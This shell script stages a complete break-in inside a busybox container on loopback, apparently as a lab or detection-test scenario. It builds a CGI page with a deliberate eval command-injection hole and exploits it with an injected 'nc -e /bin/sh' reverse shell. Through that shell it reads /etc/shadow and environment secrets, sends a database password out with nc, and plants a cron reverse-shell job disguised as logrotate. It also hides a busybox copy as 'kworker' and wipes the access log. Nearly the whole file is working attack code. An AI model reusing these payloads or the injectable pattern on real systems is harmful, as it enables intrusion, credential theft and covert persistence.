#!/bin/sh
# A break-in, told from inside a container that has nothing but busybox and a small web server.
#
# The web server's look-up page passes what it is asked to a shell. Somebody asks it for a shell of their own, reads the
# password file and a secret, drops a program and runs it, sends the secret away, plants a cron job, and cleans up.
# Everything happens on this container's own loopback. Programs are named by their whole path because a busybox shell
# runs its own applets without executing anything otherwise.
set -u

# Returns when something listens on a TCP port of this container; gives up after five seconds.
listening() {
    port=$(printf ':%04X ' "$1")
    for _ in 1 2 3 4 5 6 7 8 9 10; do
        /bin/grep -q "$port" /proc/net/tcp /proc/net/tcp6 && return 0
        /bin/sleep 0.5
    done
    return 1
}

# The victim.
/bin/mkdir -p /var/www/cgi-bin /var/log /tmp
/bin/cat > /var/www/index.html <<'PAGE'
<h1>Look up a host</h1>
PAGE
/bin/cat > /var/www/cgi-bin/lookup <<'PAGE'
#!/bin/sh
echo "Content-Type: text/plain"
echo
eval "/bin/echo looking up $(/bin/httpd -d "${QUERY_STRING#name=}")"
PAGE
/bin/chmod +x /var/www/cgi-bin/lookup
/bin/httpd -f -p 127.0.0.1:8080 -h /var/www &
server=$!
listening 8080 || exit 1

# What the attacker will type once the shell calls back.
/bin/cat > /tmp/typed <<'TYPED'
/bin/id
/bin/cat /etc/shadow
/bin/cat /proc/self/environ
/bin/mkdir -p /tmp/.x
/bin/cp /bin/busybox /tmp/.x/kworker
/bin/chmod +x /tmp/.x/kworker
/bin/ln -s kworker /tmp/.x/nc
echo "$DB_PASSWORD" | /tmp/.x/nc -w 2 127.0.0.1 9001
echo '*/5 * * * * root /tmp/.x/kworker nc 127.0.0.1 4444 -e /bin/sh' > /etc/cron.d/logrotate
/bin/rm -rf /tmp/.x /tmp/typed
: > /var/log/access.log
exit
TYPED

# The attacker: one port that collects what is stolen, one that waits for the shell, and the request that asks for it.
/bin/nc -l -p 9001 > /dev/null &
/bin/nc -l -p 4444 < /tmp/typed > /dev/null &
shell=$!
listening 9001 && listening 4444 || exit 1
/bin/wget -q -O /dev/null http://127.0.0.1:8080/
/bin/wget -q -O /dev/null 'http://127.0.0.1:8080/cgi-bin/lookup?name=x;/bin/nc%20127.0.0.1%204444%20-e%20/bin/sh'
wait "$shell"
/bin/kill "$server"
exit 0
